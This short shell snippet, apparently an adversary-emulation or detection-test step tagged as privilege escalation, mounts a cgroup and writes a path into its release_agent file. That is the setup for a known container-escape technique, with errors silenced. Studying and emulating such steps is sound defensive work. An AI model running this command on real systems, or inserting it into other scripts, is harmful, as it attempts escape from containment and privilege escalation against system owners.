# tactic: privilege-escalation
# set a cgroup release agent
mkdir -p $HOME/cg; mount -t cgroup -o rdma cgroup $HOME/cg 2>/dev/null; echo $HOME/x > $HOME/cg/release_agent 2>/dev/null; true
